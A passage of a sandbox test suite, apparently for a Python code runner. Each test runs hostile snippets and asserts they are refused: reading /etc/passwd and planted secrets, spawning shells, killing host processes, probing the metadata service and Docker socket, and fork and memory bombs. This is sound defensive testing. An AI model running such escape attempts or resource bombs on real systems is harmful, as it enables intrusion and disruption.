for obj in gc.get_objects():
    values = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple, set, frozenset)) else ()
    for value in list(values):
        if value is needle:
            continue
        if isinstance(value, bytes):
            value = value.decode("latin-1")
        if isinstance(value, str) and needle in value:
            found.append(type(obj).__name__)
print(json.dumps({"found": found, "environ": sorted(os.environ)}))
`,
    expect: { status: 'ok', check: (run) => expect(report(run).found).toEqual([]) },
  },
  {
    name: 'cannot rename its host (sethostname, setdomainname)',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${SYSCALL}
print(json.dumps({"sethostname": sc(170, b"pwned", 5), "setdomainname": sc(171, b"pwned", 5)}))
`,
    expect: { status: 'ok', stdout: '{"sethostname": "EPERM", "setdomainname": "EPERM"}\n' },
  },

  // embedded: Deno's permissions are the wall; Python reaches the worker's JavaScript through `js`.
  {
    name: "cannot read host files: /etc/passwd, the secret, the bridge's own files, the state dir",
    category: 'escape',
    backends: EMBEDDED,
    code: (context) => python`
import js, os
for path in ${literal(['/etc/passwd', context.secretFile, ...context.hostPaths, context.stateDir])}:
    try:
        open(path).read()
        print("python READ", path)
    except OSError as error:
        print("python", type(error).__name__)
    try:
        js.Deno.readTextFileSync(path)
        print("deno READ", path)
    except Exception as error:
        print("deno", "NotCapable" if "NotCapable" in str(error) else "IsADirectory" if "directory" in str(error) else str(error)[:100])
for url in ["file:///etc/passwd", "file://${context.secretFile}"]:
    try:
        await js.fetch(url)
        print("fetch READ", url)
    except Exception as error:
        print("fetch", "NotCapable" if "NotCapable" in str(error) else str(error)[:100])
print(sorted(os.listdir("/")))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const stdout = run.outcome?.stdout ?? '';
        expect(stdout).not.toContain('READ');
        const lines = stdout.trimEnd().split('\n');
        expect(
          lines.filter((line) => line.startsWith('deno ')).every((line) => line === 'deno NotCapable'),
        ).toBe(true);
        expect(
          lines.filter((line) => line.startsWith('fetch ')).every((line) => line === 'fetch NotCapable'),
        ).toBe(true);
        expect(lines.at(-1)).not.toMatch(/'etc'|'root'|'work'/);
      },
    },
  },
  {
    name: 'sees no environment variables of the host',
    category: 'escape',
    backends: EMBEDDED,
    code: python`
import js, os
print(dict(os.environ))
for attempt in (lambda: js.Deno.env.toObject(), lambda: js.Deno.env.get("SECRET_TOKEN"), lambda: js.process.env.SECRET_TOKEN):
    try:
        print("READ", attempt())
    except Exception as error:
        print("NotCapable" if "NotCapable" in str(error) else str(error)[:100])
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const stdout = run.outcome?.stdout ?? '';
        expect(stdout).not.toContain('READ');
        for (const path of context.hostPaths) expect(stdout).not.toContain(path);
        expect(stdout).not.toContain('worker.js');
        expect(stdout.match(/NotCapable/g)?.length).toBe(3);
      },
    }),
  },
  {
    name: 'cannot start processes: subprocess, os.system, posix.system, Deno.Command, node:child_process',
    category: 'escape',
    backends: EMBEDDED,
    code: (context) => python`
import js, os, posix, subprocess
marker = ${literal(`${context.secretFile}.pwned`)}
attempts = {
    "subprocess": lambda: subprocess.run(["/bin/sh", "-c", "touch " + marker]),
    "os.system": lambda: os.system("touch " + marker),
    "posix.system": lambda: posix.system("touch " + marker),
    "Deno.Command": lambda: js.Deno.Command.new("/bin/sh", js.JSON.parse('{"args":["-c","touch ' + marker + '"]}')).outputSync(),
}
for name, attempt in attempts.items():
    try:
        attempt()
        print(name, "RAN")
    except Exception as error:
        print(name, "NotCapable" if "NotCapable" in str(error) else type(error).__name__)
try:
    await js.eval("import('node:child_process').then(m => m.execSync('touch " + marker + "'))")
    print("node:child_process RAN")
except Exception as error:
    print("node:child_process", "NotCapable" if "NotCapable" in str(error) else type(error).__name__)
`,
    expect: (context) => ({
      status: 'ok',
      stdout:
        'subprocess OSError\nos.system OSError\nposix.system OSError\nDeno.Command NotCapable\nnode:child_process NotCapable\n',
      check: () => expect(existsSync(`${context.secretFile}.pwned`)).toBe(false),
    }),
  },
  {
    name: 'cannot write, create or truncate host files through Deno',
    category: 'escape',
    backends: EMBEDDED,
    code: (context) => python`
${ATTEMPT}
import js
snapshot = next(arg.split("=", 1)[1] for arg in js.Deno.args if arg.startswith("--snapshot="))
write = js.JSON.parse('{"write": true}')
print(json.dumps({
    "write": await attempt(lambda: js.Deno.writeTextFileSync(${literal(`${context.secretFile}.written`)}, "x")),
    "mkdir": await attempt(lambda: js.Deno.mkdirSync("/tmp/codemode-hostile-dir")),
    "makeTempDir": await attempt(lambda: js.Deno.makeTempDirSync()),
    "truncate_deno": await attempt(lambda: js.Deno.truncateSync(js.Deno.execPath(), 0)),
    "open_snapshot": await attempt(lambda: js.Deno.openSync(snapshot, write)),
    "remove": await attempt(lambda: js.Deno.removeSync(${literal(context.secretFile)})),
    "chmod": await attempt(lambda: js.Deno.chmodSync(snapshot, 0o777)),
    "symlink": await attempt(lambda: js.Deno.symlinkSync("/etc/passwd", "/tmp/codemode-hostile-link")),
}))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(Object.keys(results)).toHaveLength(8);
        for (const [name, result] of Object.entries(results)) expect(result, name).toBe('NotCapable');
        expect(existsSync(context.secretFile)).toBe(true);
      },
    }),
  },
  {
    name: 'cannot learn about the host through Deno: hostname, kernel, interfaces, memory, load, uid',
    category: 'escape',
    backends: EMBEDDED,
    code: python`
${ATTEMPT}
import js
print(json.dumps({name: await attempt(getattr(js.Deno, name)) for name in (
    "hostname", "osRelease", "osUptime", "networkInterfaces", "systemMemoryInfo", "loadavg", "uid", "gid",
)}))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(Object.keys(results)).toHaveLength(8);
        for (const [name, result] of Object.entries(results)) expect(result, name).toBe('NotCapable');
      },
    },
  },
  {
    name: 'cannot load native code: Deno.dlopen, process.dlopen',
    category: 'escape',
    backends: EMBEDDED,
    code: python`
${ATTEMPT}
import js
print(json.dumps({
    "dlopen": await attempt(lambda: js.Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", js.JSON.parse("{}"))),
    "process.dlopen": await attempt(lambda: js.process.dlopen(js.Object.new(), "/lib/x86_64-linux-gnu/libc.so.6")),
}))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(results.dlopen).toBe('NotCapable');
        expect(results['process.dlopen']).not.toBe('ok');
      },
    },
  },
  {
    name: 'cannot signal the bridge or any other process (Deno.kill, process.kill)',
    category: 'escape',
    backends: EMBEDDED,
    code: (context) => python`
${ATTEMPT}
import js
print(json.dumps({
    "bridge": await attempt(lambda: js.Deno.kill(${context.bridgePid}, "SIGKILL")),
    "ppid": await attempt(lambda: js.Deno.kill(js.Deno.ppid, "SIGTERM")),
    "init": await attempt(lambda: js.Deno.kill(1, "SIGKILL")),
    "group": await attempt(lambda: js.Deno.kill(-${context.bridgePid}, "SIGKILL")),
    "process.kill": await attempt(lambda: js.process.kill(${context.bridgePid}, "SIGKILL")),
}))
`,
    expect: (context) => ({
      status: 'ok',
      stdout:
        '{"bridge": "NotCapable", "ppid": "NotCapable", "init": "NotCapable", "group": "NotCapable", "process.kill": "NotCapable"}\n',
      check: () => expect(context.bridgePid).toBeGreaterThan(0),
    }),
  },
  {
    name: 'is denied every permission it asks for, without a prompt',
    category: 'escape',
    backends: EMBEDDED,
    code: python`
import js, json
names = ("net", "env", "run", "write", "ffi", "sys", "import")
print(json.dumps({name: js.Deno.permissions.requestSync(js.JSON.parse(json.dumps({"name": name}))).state for name in names}))
print(json.dumps({name: js.Deno.permissions.querySync(js.JSON.parse(json.dumps({"name": name}))).state for name in names}))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const [requested, queried] = (run.outcome?.stdout ?? '')
          .trimEnd()
          .split('\n')
          .map((line) => JSON.parse(line));
        for (const state of Object.values(requested)) expect(state).toBe('denied');
        for (const state of Object.values(queried)) expect(state).not.toBe('granted');
      },
    },
  },
  {
    name: 'cannot import code from the network, host files or Node modules that reach the host',
    category: 'escape',
    backends: EMBEDDED,
    code: python`
${ATTEMPT}
import js
print(json.dumps({
    "remote": await attempt(lambda: js.eval("import('https://example.com/x.js')")),
    "file": await attempt(lambda: js.eval("import('file:///etc/passwd')")),
    "node:fs": await attempt(lambda: js.eval("import('node:fs').then(m => m.readFileSync('/etc/passwd', 'utf8'))")),
    "node:os": await attempt(lambda: js.eval("import('node:os').then(m => m.userInfo())")),
    "npm": await attempt(lambda: js.eval("import('npm:left-pad')")),
}))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(Object.keys(results)).toHaveLength(5);
        expect(Object.entries(results).filter(([, result]) => result === 'ok')).toEqual([]);
      },
    },
  },
  {
    name: 'cannot reach more through a Worker: it inherits the same empty permissions',
    category: 'escape',
    backends: EMBEDDED,
    code: python`
import js
print(await js.eval("""new Promise((resolve) => {
  const worker = new Worker('data:text/javascript,try { postMessage(Deno.readTextFileSync("/etc/passwd")) } catch (e) { postMessage("refused " + e.name) }', { type: 'module' });
  worker.onmessage = (event) => { resolve(String(event.data)); worker.terminate(); };
  worker.onerror = (event) => { event.preventDefault(); resolve('error ' + event.message); };
})"""))
`,
    expect: { status: 'ok', stdout: 'refused NotCapable\n' },
  },
  {
    name: 'a Worker asking for more permissions ends only its own sandbox',
    category: 'escape',
    backends: EMBEDDED,
    code: python`
import js
js.eval("new Worker('data:text/javascript,postMessage(1)', { type: 'module', deno: { permissions: { read: true, net: true, run: true } } })")
print("not reached")
`,
    // Deno ends the worker process over an option it was not started with; nothing is granted.
    expect: { status: 'killed', error: /Unstable API 'Worker\.deno\.permissions'/, stdout: '' },
  },
  {
    name: "cannot mount the host's file system into Pyodide's (NODEFS)",
    category: 'escape',
    backends: EMBEDDED,
    code: (context) => python`
${ATTEMPT}
import pyodide_js
FS = pyodide_js.FS
results = {}
for index, path in enumerate(["/", "/etc", ${literal(context.hostPaths[2])}]):
    mountpoint = "/mnt%d" % index
    results[path] = await attempt(lambda: pyodide_js.mountNodeFS(mountpoint, path))
    results[path + " list"] = await attempt(lambda: os.listdir(mountpoint))
    results[path + " passwd"] = await attempt(lambda: open(mountpoint + "/etc/passwd").read())
print(json.dumps(results))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(Object.keys(results)).toHaveLength(9);
        for (const [name, result] of Object.entries(results)) {
          if (!name.endsWith('list')) expect(result, name).not.toBe('ok');
        }
      },
    },
  },
  {
    name: "cannot leave its directory: Deno.chdir, Deno.realPathSync; the cwd is '/', not the bridge's",
    category: 'escape',
    backends: EMBEDDED,
    code: python`
${ATTEMPT}
import js
print(json.dumps({
    "cwd": js.Deno.cwd(),
    "chdir": await attempt(lambda: js.Deno.chdir("/etc")),
    "realpath": await attempt(lambda: js.Deno.realPathSync(".")),
    "readDir": await attempt(lambda: list(js.Deno.readDirSync("/"))),
}))
`,
    expect: {
      status: 'ok',
      stdout: '{"cwd": "/", "chdir": "NotCapable", "realpath": "NotCapable", "readDir": "NotCapable"}\n',
    },
  },
  {
    name: 'finds no secret and no user data in the snapshot it may read',
    category: 'escape',
    backends: EMBEDDED,
    code: (context) => python`
import js
snapshot = next(arg.split("=", 1)[1] for arg in js.Deno.args if arg.startswith("--snapshot="))
data = bytes(js.Deno.readFileSync(snapshot).to_py())
needle = ${literal([...context.secret].reverse().join(''))}[::-1].encode()
print(len(data) > 1_000_000, needle in data, b"hostile-warm-up" in data)
`,
    expect: { status: 'ok', stdout: 'True False False\n' },
  },
];

// --------------------------------------------------------------------------------------------- network

const NETWORK: HostileCase[] = [
  {
    name: 'reaches nothing over TCP, UDP or DNS, IPv4 or IPv6',
    category: 'network',
    backends: CONTAINERS,
    code: python`
${ATTEMPT}
import socket
def udp(address):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    return socket.socket(family, socket.SOCK_DGRAM).sendto(b"x", (address, 53))
print(json.dumps({
    "tcp": await attempt(lambda: socket.create_connection(("1.1.1.1", 53), timeout=2)),
    "udp": await attempt(lambda: udp("8.8.8.8")),
    "tcp6": await attempt(lambda: socket.create_connection(("2606:4700:4700::1111", 53), timeout=2)),
    "udp6": await attempt(lambda: udp("2001:4860:4860::8888")),
    "dns": await attempt(lambda: socket.getaddrinfo("example.com", 443)),
    "metadata": await attempt(lambda: socket.create_connection(("169.254.169.254", 80), timeout=2)),
    "gateway": await attempt(lambda: socket.create_connection(("10.88.0.1", 80), timeout=2)),
}))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const results = report(run);
        // Only `lo` exists: no route anywhere. gVisor's netstack says EHOSTUNREACH where Linux says ENETUNREACH.
        const unreachable = context.gvisor ? 'EHOSTUNREACH' : 'ENETUNREACH';
        for (const name of ['tcp', 'udp', 'tcp6', 'udp6', 'metadata', 'gateway']) {
          expect(results[name], name).toBe(unreachable);
        }
        expect(results.dns).toBe('gaierror');
      },
    }),
  },
  {
    name: "cannot reach the host's loopback services, nor the host's own address",
    category: 'network',
    backends: CONTAINERS,
    code: (context) => python`
${ATTEMPT}
import socket
results = {
    "loopback": await attempt(lambda: socket.create_connection(("127.0.0.1", ${context.hostPort}), timeout=2)),
    "loopback6": await attempt(lambda: socket.create_connection(("::1", ${context.hostPort}), timeout=2)),
}
if ${literal(context.hostAddress ?? '')}:
    results["host"] = await attempt(lambda: socket.create_connection((${literal(context.hostAddress ?? '')}, ${context.hostPort}), timeout=2))
print(json.dumps(results))
`,
    expect: (context) => {
      const before = context.hostConnections();
      return {
        status: 'ok',
        check: (run) => {
          const results = report(run);
          // Its own loopback: nobody listens there.
          expect(results.loopback).toBe('ECONNREFUSED');
          expect(results.loopback6).toBe('ECONNREFUSED');
          if (context.hostAddress) expect(results.host).toBe(context.gvisor ? 'EHOSTUNREACH' : 'ENETUNREACH');
          expect(context.hostConnections()).toBe(before);
        },
      };
    },
  },
  {
    name: 'cannot open raw or packet sockets (no CAP_NET_RAW)',
    category: 'network',
    backends: CONTAINERS,
    code: python`
${ATTEMPT}
import socket
print(json.dumps({
    "raw": await attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    "raw6": await attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)),
    "packet": await attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)),
    "ping": await attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\x08\0\0\0\0\0\0\0", ("8.8.8.8", 0))),
}))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) =>
        // gVisor allows ICMP datagram sockets to everyone; with no route, the ping still goes nowhere.
        expect(report(run)).toEqual({
          raw: 'EPERM',
          raw6: 'EPERM',
          packet: 'EPERM',
          ping: context.gvisor ? 'EHOSTUNREACH' : 'EACCES',
        }),
    }),
  },
  {
    name: "cannot reach the host's Unix sockets: engine, D-Bus, systemd, a socket file of the test",
    category: 'network',
    backends: CONTAINERS,
    code: (context) => python`
${ATTEMPT}
import socket
def connect(path):
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(2)
    client.connect(path)
paths = ["/run/podman/podman.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
         "/run/systemd/private", "/run/containerd/containerd.sock", ${literal(context.hostSocket)}]
print(json.dumps({path: await attempt(lambda path=path: connect(path)) for path in paths}))
`,
    expect: (context) => {
      const before = context.hostConnections();
      return {
        status: 'ok',
        check: (run) => {
          const results = report(run);
          expect(Object.keys(results)).toHaveLength(6);
          for (const [path, result] of Object.entries(results)) expect(result, path).toBe('ENOENT');
          expect(context.hostConnections()).toBe(before);
        },
      };
    },
  },
  {
    name: "cannot reach the host's abstract Unix sockets (they belong to the host's network namespace)",
    category: 'network',
    backends: CONTAINERS,
    code: (context) => python`
${ATTEMPT}
import socket
def connect(name):
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(2)
    client.connect("\0" + name)
print(json.dumps({
    "test": await attempt(lambda: connect(${literal(context.abstractSocket)})),
    "systemd": await attempt(lambda: connect("/org/freedesktop/systemd1/notify")),
}))
`,
    expect: (context) => {
      const before = context.hostConnections();
      return {
        status: 'ok',
        check: (run) => {
          expect(report(run)).toEqual({ test: 'ECONNREFUSED', systemd: 'ECONNREFUSED' });
          expect(context.hostConnections()).toBe(before);
        },
      };
    },
  },
  {
    name: "cannot use the frame socket's directory: read-only, and nothing listens once the runtime is connected",
    category: 'network',
    backends: CONTAINERS,
    code: python`
${ATTEMPT}
import socket
def connect():
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(2)
    client.connect("/run/codemode-channel/channel.sock")
print(json.dumps({
    "listing": sorted(os.listdir("/run/codemode-channel")) if os.path.isdir("/run/codemode-channel") else None,
    "connect": await attempt(connect),
    "write": await attempt(lambda: open("/run/codemode-channel/channel.sock.2", "w")),
}))
`,
    // runc: the host removes the socket file once the runtime connected; gVisor: frames use stdio,
    // the directory is not mounted at all.
    expect: (context) => ({
      status: 'ok',
      check: (run) =>
        expect(report(run)).toEqual(
          context.gvisor
            ? { listing: null, connect: 'ENOENT', write: 'ENOENT' }
            : { listing: [], connect: 'ENOENT', write: 'EROFS' },
        ),
    }),
  },
  {
    name: 'cannot configure the network: interface flags, addresses, routes, a network namespace',
    category: 'network',
    backends: CONTAINERS,
    code: python`
${ATTEMPT}
${SYSCALL}
import fcntl, socket, struct
sock = socket.socket()
ifreq_flags = struct.pack("16sH", b"lo", 0) + b"\0" * 22
ifreq_addr = struct.pack("16sH2s4s", b"lo", socket.AF_INET, b"\0\0", socket.inet_aton("10.1.2.3")) + b"\0" * 8
print(json.dumps({
    "down": await attempt(lambda: fcntl.ioctl(sock, 0x8914, ifreq_flags)),
    "address": await attempt(lambda: fcntl.ioctl(sock, 0x8916, ifreq_addr)),
    "unshare_net": sc(272, 0x40000000),
}))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(Object.entries(results).filter(([, result]) => result === 'ok')).toEqual([]);
      },
    },
  },

  // embedded: no --allow-net, so every network API of Deno refuses.
  {
    name: 'has no network: js.fetch, pyodide.http.pyfetch, sockets to the host loopback',
    category: 'network',
    backends: EMBEDDED,
    code: (context) => python`
import js, socket
from pyodide.http import pyfetch
url = "http://127.0.0.1:${context.hostPort}/"
for name, attempt in [("fetch", lambda: js.fetch(url)), ("pyfetch", lambda: pyfetch(url))]:
    try:
        await attempt()
        print(name, "REACHED")
    except Exception as error:
        print(name, type(error).__name__, str(error)[:80])
try:
    socket.create_connection(("127.0.0.1", ${context.hostPort}), timeout=2)
    print("socket REACHED")
except OSError as error:
    print("socket", type(error).__name__)
`,
    expect: (context) => {
      const before = context.hostConnections();
      return {
        status: 'ok',
        check: (run) => {
          const stdout = run.outcome?.stdout ?? '';
          expect(stdout).not.toContain('REACHED');
          expect(stdout).toMatch(/^fetch .*NotCapable.*net access/m);
          expect(stdout).toMatch(/^pyfetch .*Requires net access/m);
          expect(stdout).toMatch(/^socket OSError/m);
          expect(context.hostConnections()).toBe(before);
        },
      };
    },
  },
  {
    name: 'cannot connect through Deno: TCP, TLS, WebSocket, Unix sockets of the host',
    category: 'network',
    backends: EMBEDDED,
    code: (context) => python`
${ATTEMPT}
import js
options = lambda value: js.JSON.parse(json.dumps(value))
print(json.dumps({
    "tcp": await attempt(lambda: js.Deno.connect(options({"hostname": "127.0.0.1", "port": ${context.hostPort}}))),
    "tls": await attempt(lambda: js.Deno.connectTls(options({"hostname": "example.com", "port": 443}))),
    "websocket": await attempt(lambda: js.WebSocket.new("ws://127.0.0.1:${context.hostPort}/")),
    "unix": await attempt(lambda: js.Deno.connect(options({"transport": "unix", "path": ${literal(context.hostSocket)}}))),
    "abstract": await attempt(lambda: js.Deno.connect(options({"transport": "unix", "path": "\0" + ${literal(context.abstractSocket)}}))),
}))
`,
    expect: (context) => {
      const before = context.hostConnections();
      return {
        status: 'ok',
        check: (run) => {
          const results = report(run);
          expect(Object.keys(results)).toHaveLength(5);
          for (const [name, result] of Object.entries(results)) expect(result, name).toBe('NotCapable');
          expect(context.hostConnections()).toBe(before);
        },
      };
    },
  },
  {
    name: 'cannot listen: Deno.listen on TCP and Unix sockets, socket.listen',
    category: 'network',
    backends: EMBEDDED,
    code: python`
${ATTEMPT}
import js, socket
def python_listen():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
print(json.dumps({
    "tcp": await attempt(lambda: js.Deno.listen(js.JSON.parse('{"port": 0}'))),
    "unix": await attempt(lambda: js.Deno.listen(js.JSON.parse('{"transport": "unix", "path": "/tmp/hostile.sock"}'))),
    "python": await attempt(python_listen),
}))
`,
    expect: { status: 'ok', stdout: '{"tcp": "NotCapable", "unix": "NotCapable", "python": "ENOTSUP"}\n' },
  },
  {
    name: 'cannot resolve names: Deno.resolveDns, node:dns, getaddrinfo',
    category: 'network',
    backends: EMBEDDED,
    code: python`
${ATTEMPT}
import js, socket
print(json.dumps({
    "resolveDns": await attempt(lambda: js.Deno.resolveDns("example.com", "A")),
    "node:dns": await attempt(lambda: js.eval("import('node:dns').then(m => m.promises.lookup('example.com')).catch(e => { throw new Error(String(e).includes('EPERM') ? 'NotCapable (EPERM)' : String(e)) })")),
    "getaddrinfo": sorted({info[4][0] for info in socket.getaddrinfo("example.com", 443)}),
}))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(results.resolveDns).toBe('NotCapable');
        expect(results['node:dns']).toBe('NotCapable');
        // Emscripten answers getaddrinfo itself, with a made-up address from 172.29.0.0/16 that no
        // socket can reach: no query leaves the worker.
        expect(results.getaddrinfo).toEqual([expect.stringMatching(/^172\.29\.\d+\.\d+$/)]);
      },
    },
  },
  {
    name: 'cannot connect through Node modules: node:net, node:http',
    category: 'network',
    backends: EMBEDDED,
    code: (context) => python`
${ATTEMPT}
import js
port = ${context.hostPort}
print(json.dumps({
    "net": await attempt(lambda: js.eval("import('node:net').then(m => new Promise((resolve, reject) => { const s = m.connect(%d, '127.0.0.1'); s.on('error', reject); s.on('connect', resolve); }))" % port)),
    "http": await attempt(lambda: js.eval("import('node:http').then(m => new Promise((resolve, reject) => { const r = m.get('http://127.0.0.1:%d/', resolve); r.on('error', reject); }))" % port)),
}))
`,
    expect: (context) => {
      const before = context.hostConnections();
      return {
        status: 'ok',
        check: (run) => {
          const results = report(run);
          expect(Object.keys(results)).toHaveLength(2);
          for (const [name, result] of Object.entries(results)) expect(result, name).toBe('NotCapable');
          expect(context.hostConnections()).toBe(before);
        },
      };
    },
  },
  {
    name: 'cannot send UDP through node:dgram: the refusal ends the run as an uncaught error',
    category: 'network',
    backends: EMBEDDED,
    // Deno refuses the implicit bind outside any promise the program could catch.
    code: "import js, asyncio\njs.eval(\"import('node:dgram').then(m => m.createSocket('udp4').send('x', 53, '8.8.8.8'))\")\nawait asyncio.sleep(2)\nprint(\"not reached\")",
    expect: (context) => {
      const before = context.hostConnections();
      return {
        status: 'error',
        error: /^Uncaught JavaScript error: NotCapable: Requires net access/,
        stdout: '',
        check: () => expect(context.hostConnections()).toBe(before),
      };
    },
  },
];

// ------------------------------------------------------------------------------------------- resources

const RESOURCES: HostileCase[] = [
  {
    name: 'ends a memory bomb of 10 MB blocks with a clear status',
    category: 'resources',
    timeout: 30,
    code: 'blocks = []\nwhile True:\n    blocks.append(bytearray(10 * 1024 * 1024))',
    expect: memoryBombOutcome,
  },
  {
    name: 'ends a memory bomb of many small strings with a clear status',
    category: 'resources',
    timeout: 60,
    code: 'keep = []\nwhile True:\n    keep.append("x" * 1000 + str(len(keep)))',
    expect: memoryBombOutcome,
  },
  {
    name: 'refuses one huge allocation with MemoryError',
    category: 'resources',
    // Pyodide is 32-bit: 1 TiB does not even fit its sizes, so it asks for the most it could address.
    code: (context) => (context.container ? 'data = bytearray(1 << 40)' : 'data = bytearray(2**31 - 1)'),
    // gVisor's Sentry grants the 1 TiB mapping; filling it with zeros then meets the memory limit.
    expect: (context) =>
      context.gvisor
        ? { status: 'killed', error: memoryLimitMessage }
        : { status: 'error', error: /^MemoryError/ },
  },
  {
    name: 'ends a doubling bytes object with a clear status',
    category: 'resources',
    timeout: 30,
    code: 'data = b"x"\nwhile True:\n    data += data',
    expect: memoryBombOutcome,
  },
  {
    name: 'ends anonymous mmap memory it touches page by page',
    category: 'resources',
    timeout: 30,
    code: 'import mmap\nmapped = mmap.mmap(-1, 1 << 30)\nfor offset in range(0, len(mapped), 4096):\n    mapped[offset] = 1',
    expect: (context) =>
      context.container
        ? { status: 'killed', error: memoryLimitMessage }
        : { status: ['error'], error: /^(MemoryError|OSError|ValueError)/ },
  },
  {
    name: 'a memory bomb in a child process kills only the child',
    category: 'resources',
    backends: CONTAINERS,
    timeout: 30,
    code: python`
import subprocess, sys
child = subprocess.run([sys.executable, "-c", "x = []\nwhile True: x.append(bytearray(10**7))"], capture_output=True)
print(child.returncode)
`,
    // The cgroup's OOM killer picks the largest process: the child (SIGKILL), or Python raised MemoryError.
    // Under gVisor every process lives in the one Sentry, which the cgroup kills as a whole.
    expect: (context) =>
      context.gvisor
        ? { status: 'killed', error: memoryLimitMessage }
        : { status: 'ok', stdout: /^(-9|1)\n$/ },
  },
  {
    name: 'ends a fork bomb with a clear status',
    category: 'resources',
    timeout: 10,
    code: 'import os\nwhile True:\n    os.fork()',
    expect: (context) =>
      context.container
        ? { status: ['error', 'timeout', 'killed'] }
        : { status: 'error', error: /^(OSError|AttributeError)/ },
  },
  {
    name: 'ends a subprocess flood at the pids limit',
    category: 'resources',
    backends: CONTAINERS,
    timeout: 10,
    code: python`
import subprocess
children = []
try:
    while True:
        children.append(subprocess.Popen(["sleep", "60"]))
finally:
    print(len(children))
`,
    expect: {
      status: 'error',
      error: /BlockingIOError|OSError/,
      // Stopped by MCP_BRIDGE_PIDS itself (under gVisor: RLIMIT_NPROC in the Sentry), not by a larger
      // backstop such as the host cgroup gVisor gets.
      check: (run) => expect(Number(run.outcome?.stdout)).toBeLessThan(64),
    },
  },
  {
    name: 'ends a thread bomb at the pids limit',
    category: 'resources',
    timeout: 10,
    code: python`
import threading, time
threads = []
try:
    while True:
        thread = threading.Thread(target=time.sleep, args=(60,), daemon=True)
        thread.start()
        threads.append(thread)
finally:
    print(len(threads))
`,
    expect: (context) => ({
      status: 'error',
      error: /^RuntimeError: can't start new thread/,
      check: (run) => {
        const started = Number(run.outcome?.stdout);
        // Pyodide has no threads at all; a container stops them at MCP_BRIDGE_PIDS (threads count).
        if (context.container) expect(started).toBeLessThan(64);
        else expect(started).toBe(0);
      },
    }),
  },
  {
    name: 'runs out of file descriptors, not the bridge',
    category: 'resources',
    timeout: 60,
    code: python`
try:
    import resource
    print(resource.getrlimit(resource.RLIMIT_NOFILE)[0], flush=True)
except ImportError:
    print(4096, flush=True)  # Pyodide: no resource module; Emscripten allows 4,096 descriptors
import os
fds = []
while True:
    fds.append(os.open("/dev/null", os.O_RDONLY))
`,
    // The bridge sets no RLIMIT_NOFILE: the engine's default applies (1,024 from containers.conf here;
    // runsc gets 1,048,576). Far beyond what memory allows, the memory limit ends it first.
    expect: {
      status: ['error', 'killed'],
      check: ({ outcome }) => {
        const exhausted = /Too many open files|No file descriptors available/;
        if (Number(outcome?.stdout) <= 65536) {
          expect(outcome?.status).toBe('error');
          expect(outcome?.error).toMatch(exhausted);
        } else if (outcome?.status === 'killed') {
          expect(outcome.error).toMatch(memoryLimitMessage);
        } else {
          expect(outcome?.error).toMatch(exhausted);
        }
      },
    },
  },
  {
    name: 'fills /tmp up to its size, not the host',
    category: 'resources',
    timeout: 60,
    code: 'chunk = b"x" * (1 << 20)\nwith open("/tmp/fill", "wb") as file:\n    while True:\n        file.write(chunk)',
    // Embedded: /tmp is in the worker's memory, so filling it is a memory bomb.
    expect: (context) =>
      context.container
        ? { status: 'error', error: /No space left on device/ }
        : { status: ['error', 'killed'], error: /MemoryError|worker crashed|killed/ },
  },
  {
    name: 'fills /workspace up to its size, not the host',
    category: 'resources',
    timeout: 60,
    code: 'chunk = b"x" * (1 << 20)\nwith open("/workspace/fill", "wb") as file:\n    while True:\n        file.write(chunk)',
    expect: (context) =>
      context.container
        ? { status: 'error', error: /No space left on device/ }
        : { status: ['error', 'killed'], error: /MemoryError|worker crashed|killed/ },
  },
  {
    name: 'fills /dev/shm up to its size, not the host',
    category: 'resources',
    backends: CONTAINERS,
    timeout: 60,
    code: 'chunk = b"x" * (1 << 20)\nwith open("/dev/shm/fill", "wb") as file:\n    while True:\n        file.write(chunk)',
    expect: { status: ['error', 'killed'], error: /No space left on device|memory limit/ },
  },
  {
    // 3 s, not less: on a loaded two-core machine the program may need a second to reach its first line.
    name: 'kills an endless loop at its timeout',
    category: 'resources',
    timeout: 3,
    code: 'while True:\n    pass',
    expect: { status: 'timeout', error: /^Timed out after 3 s; the sandbox was killed/ },
  },
  {
    name: 'kills catastrophic regex backtracking (inside C code) at its timeout',
    category: 'resources',
    timeout: 3,
    code: 'import re\nre.match(r"(a*)*b", "a" * 64)',
    expect: { status: 'timeout' },
  },
  {
    name: 'kills a program sleeping past its timeout',
    category: 'resources',
    timeout: 3,
    code: 'import time\ntime.sleep(3600)',
    expect: { status: 'timeout' },
  },
  {
    name: 'kills a program that ignores SIGTERM, SIGINT and SIGHUP at its timeout',
    category: 'resources',
    timeout: 3,
    code: python`
import signal
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
while True:
    pass
`,
    expect: { status: 'timeout' },
  },
  {
    name: 'caps a 50 MB print, keeping head and tail',
    category: 'resources',
    timeout: 60,
    code: 'import sys\nprint("HEAD")\nfor _ in range(50):\n    sys.stdout.write("x" * 1_000_000)\nprint()\nprint("TAIL")',
